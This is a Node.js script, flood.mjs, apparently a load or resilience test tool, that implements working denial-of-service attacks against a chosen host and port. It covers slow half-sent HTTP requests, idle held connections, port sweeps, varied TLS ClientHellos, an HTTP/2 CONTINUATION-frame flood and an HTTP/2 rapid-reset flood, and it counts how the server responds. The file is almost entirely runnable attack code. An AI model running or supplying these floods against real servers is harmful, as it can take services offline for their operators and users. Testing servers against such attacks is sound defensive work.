// flood.mjs KIND HOST PORT COUNT: what an attacker sends, COUNT times, all of it held open until the input ends. KIND:
//   half          half of an HTTP/1.1 request on each connection
//   silent        nothing on each connection
//   ports         one connection to each of COUNT ports, from PORT on, each ended after a moment
//   names         a TLS ClientHello with a server name of its own on each connection
//   continuation  HTTP/2 headers that never end, COUNT frames of 16 kB
//   reset         COUNT HTTP/2 requests, each reset at once
// Prints "sent", and when the input ends, as JSON, how many connections opened, failed to open, and were closed by the server.
import { connect } from "node:net";
import { connect as connectTls } from "node:tls";

const [kind, host, firstPort, text] = process.argv.slice(2);
const count = Number(text);
const port = Number(firstPort);
const told = { opened: 0, refused: 0, closed: 0 };
/** Connections on their way: more would only fill the queue of the listening socket. */
const AT_ONCE = 128;

/** How long a connection to one of many ports stays. */
const DIALLED_MS = 200;

const PATIENCE_MS = 2000;

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));
/** HPACK, a literal without indexing: its name and its value are shorter than 127 bytes each. */
const literal = (name, value) =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const REQUEST = Buffer.concat(
  [
    [":method", "GET"],
    [":scheme", "http"],
    [":path", "/"],
    [":authority", "flood"],
  ].map(([name, value]) => literal(name, value)),
);

function dial(to) {
  return new Promise((resolve) => {
    const socket = connect(to, host);
    let open = false;
    // A server that takes no more leaves connections without an answer.
    socket.setTimeout(PATIENCE_MS, () => open || socket.destroy());
    socket.on("connect", () => {
      open = true;
      told.opened++;
      resolve(socket);
    });
    socket.on("data", () => {});
    socket.on("error", () => {});
    socket.on("close", () => {
      if (open) told.closed++;
      else told.refused++;
      resolve(undefined);
    });
  });
}

/** Writes all parts, no faster than they are read; ends early when the connection does. */
async function writeAll(socket, parts) {
  for (const part of parts) {
    if (socket.destroyed) return;
    if (!socket.write(part)) {
      await new Promise((resolve) => socket.once("drain", resolve).once("close", resolve));
    }
  }
}

function* continuation() {
  yield Buffer.concat([PREFACE, SETTINGS, frame(1, 0, 1, REQUEST)]);
  const filler = Buffer.concat(Array.from({ length: 120 }, (_, i) => literal(`x-${i}`, "a".repeat(120))));
  for (let i = 0; i < count; i++) yield frame(9, 0, 1, filler);
}

function* reset() {
  yield Buffer.concat([PREFACE, SETTINGS]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (let i = 0; i < count; i++) {
    const stream = 2 * i + 1;
    yield Buffer.concat([frame(1, 5, stream, REQUEST), frame(3, 0, stream, cancel)]);
  }
}

async function one(index) {
  switch (kind) {
    case "half":
      return void (await dial(port))?.write("GET /half HTTP/1.1\r\nHost: victim\r\nX-Slow: ");
    case "silent":
      return void (await dial(port));
    case "ports": {
      const socket = await dial(port + index);
      socket?.write("hello\n");
      await new Promise((resolve) => setTimeout(resolve, DIALLED_MS));
      socket?.destroy();
      return;
    }
    case "names": {
      const socket = await dial(port);
      if (socket === undefined) return;
      const tls = connectTls({ socket, servername: `name-${index}.example`, rejectUnauthorized: false });
      tls.on("error", () => {});
      return;
    }
  }
}

if (kind === "continuation" || kind === "reset") {
  const socket = await dial(port);
  if (socket !== undefined) await writeAll(socket, kind === "reset" ? reset() : continuation());
} else {
  let next = 0;
  const worker = async () => {
    while (next < count) await one(next++);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, worker));
}
console.log("sent");
process.stdin.resume().on("end", () => process.stdout.write(JSON.stringify(told) + "\n", () => process.exit(0)));
